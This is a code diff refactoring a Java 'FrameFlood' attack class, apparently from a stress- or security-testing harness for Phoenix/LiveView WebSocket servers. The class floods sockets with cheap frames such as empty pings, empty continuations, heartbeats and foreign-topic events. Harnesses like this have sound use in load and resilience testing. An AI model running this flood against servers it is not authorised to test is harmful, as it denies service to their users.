@@ -11,17 +11,22 @@ public record FrameFlood(Kind kind) implements Attack {
 
   /** The frames that cost the sender next to nothing. */
   public enum Kind {
-    PINGS(Frames.whole(Frames.PING, new byte[0])),
-    PONGS(Frames.whole(Frames.PONG, new byte[0])),
-    EMPTY_MESSAGES(Frames.text("")),
-    EMPTY_CONTINUATIONS(Frames.part(Frames.CONTINUATION, new byte[0])),
-    HEARTBEATS(Frames.text("[null,\"1\",\"phoenix\",\"heartbeat\",{}]")),
-    FOREIGN_TOPICS(Frames.text("[\"1\",\"1\",\"lv:x\",\"event\",{}]"));
+    PINGS,
+    PONGS,
+    EMPTY_MESSAGES,
+    EMPTY_CONTINUATIONS,
+    HEARTBEATS,
+    FOREIGN_TOPICS;
 
-    private final byte[] frames;
-
-    Kind(byte[] frame) {
-      frames = Frames.times(FRAMES_AT_ONCE, frame);
+    private byte[] frame() {
+      return switch (this) {
+        case PINGS -> Frames.whole(Frames.PING, new byte[0]);
+        case PONGS -> Frames.whole(Frames.PONG, new byte[0]);
+        case EMPTY_MESSAGES -> Frames.text("");
+        case EMPTY_CONTINUATIONS -> Frames.part(Frames.CONTINUATION, new byte[0]);
+        case HEARTBEATS -> Frames.text("[null,\"1\",\"phoenix\",\"heartbeat\",{}]");
+        case FOREIGN_TOPICS -> Frames.text("[\"1\",\"1\",\"lv:x\",\"event\",{}]");
+      };
     }
   }
 
@@ -32,6 +37,7 @@ public record FrameFlood(Kind kind) implements Attack {
 
   @Override
   public void begin(Attacker attacker) {
+    byte[] frames = Frames.times(FRAMES_AT_ONCE, kind.frame());
     attacker.each(
         SOCKETS,
         wire -> {
@@ -42,7 +48,7 @@ public record FrameFlood(Kind kind) implements Attack {
               wire.send(Frames.part(Frames.TEXT, new byte[1]));
             }
             while (attacker.goesOn() && reader.isAlive()) {
-              wire.send(kind.frames);
+              wire.send(frames);
             }
           } finally {
             reader.interrupt();
